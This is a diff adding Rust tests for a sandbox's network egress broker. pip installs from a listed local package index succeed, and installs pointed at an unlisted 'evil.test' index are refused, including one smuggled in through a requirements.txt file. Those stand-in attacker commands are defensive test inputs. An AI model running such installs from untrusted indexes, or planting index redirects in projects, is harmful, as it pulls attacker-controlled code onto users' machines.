@@ -167,3 +167,91 @@ async fn listed_hosts_are_reached_through_the_broker_and_others_are_refused_with
     );
     let _ = std::fs::remove_file(&log_path);
 }
+
+/// A real package index on this machine (`pypiserver`, installed by `scripts/test.sh`),
+/// serving the wheels it downloaded; `None` outside CI when it is missing.
+fn pypiserver() -> Option<(std::process::Child, u16)> {
+    let (Some(bin), Some(wheels)) = (
+        std::env::var_os("EXECKIT_TEST_PYPISERVER"),
+        std::env::var_os("EXECKIT_TEST_WHEELS"),
+    ) else {
+        assert_ne!(
+            std::env::var("CI").as_deref(),
+            Ok("true"),
+            "CI=true but no pypiserver (scripts/test.sh installs it)"
+        );
+        return None;
+    };
+    let port = std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    let child = std::process::Command::new(bin)
+        .args([
+            "run",
+            "-i",
+            "127.0.0.1",
+            "-p",
+            &port.to_string(),
+            "-a",
+            ".",
+            "-P",
+            ".",
+        ])
+        .arg(wheels)
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    for _ in 0..100 {
+        if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
+            return Some((child, port));
+        }
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+    panic!("pypiserver did not start on port {port}");
+}
+
+#[tokio::test]
+async fn pip_installs_from_a_listed_index_and_is_refused_an_unlisted_one() {
+    let Some((mut index, port)) = pypiserver() else {
+        return;
+    };
+    let ws = Workspace::new("egress-pip");
+    let s = brokered(&ws, None).await;
+    ok(&s, "python3 -m venv .venv").await;
+    let pip = "PIP_NO_CACHE_DIR=1 PIP_DISABLE_PIP_VERSION_CHECK=1 .venv/bin/pip install -q";
+    let r = ok(&s, &format!("{pip} --index-url http://registry.test:{port}/simple/ --trusted-host registry.test six idna packaging && .venv/bin/python -c 'import six, idna, packaging; print(six.__version__)'")).await;
+    assert_eq!(r.stdout.trim(), "1.17.0", "{r:?}");
+    assert!(r.runtime_denials.is_empty(), "{r:?}");
+    // Named in the command, an unlisted index is refused before pip runs; named in a
+    // requirements file (`pip install -r`, as projects do), only the broker sees it.
+    let text = s
+        .exec(
+            &format!("{pip} --index-url http://evil.test:{port}/simple/ six"),
+            &Default::default(),
+        )
+        .await;
+    assert!(text.is_err(), "{text:?}");
+    std::fs::write(
+        ws.path().join("requirements.txt"),
+        format!("--index-url http://evil.test:{port}/simple/\n--trusted-host evil.test\nsix\n"),
+    )
+    .unwrap();
+    let r = run(
+        &s,
+        &format!("{pip} --retries 0 --force-reinstall -r requirements.txt"),
+    )
+    .await;
+    assert_ne!(r.exit_code, Some(0), "{r:?}");
+    let d = r
+        .runtime_denials
+        .iter()
+        .find(|d| d.destination.as_deref() == Some(&format!("evil.test:{port}")))
+        .unwrap_or_else(|| panic!("{r:?}"));
+    assert!(d.program.contains("python3"), "{d:?}");
+    s.close().await;
+    let _ = index.kill();
+    let _ = index.wait();
+}
